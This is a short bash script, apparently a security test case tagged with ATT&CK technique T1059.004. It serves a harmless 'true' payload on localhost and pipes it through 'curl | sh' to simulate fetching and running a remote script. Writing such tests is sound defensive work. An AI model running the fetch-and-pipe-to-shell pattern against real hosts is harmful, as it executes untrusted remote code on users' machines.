#!/usr/bin/env bash
# attack: T1059.004 Fetch a script and pipe it straight into a shell
. "$(dirname "$0")/lib/common.sh"
echo 'true' > "$SW/s"
p=$(serve "$SW")
sh -c "curl -fsSL http://127.0.0.1:$p/s | sh"
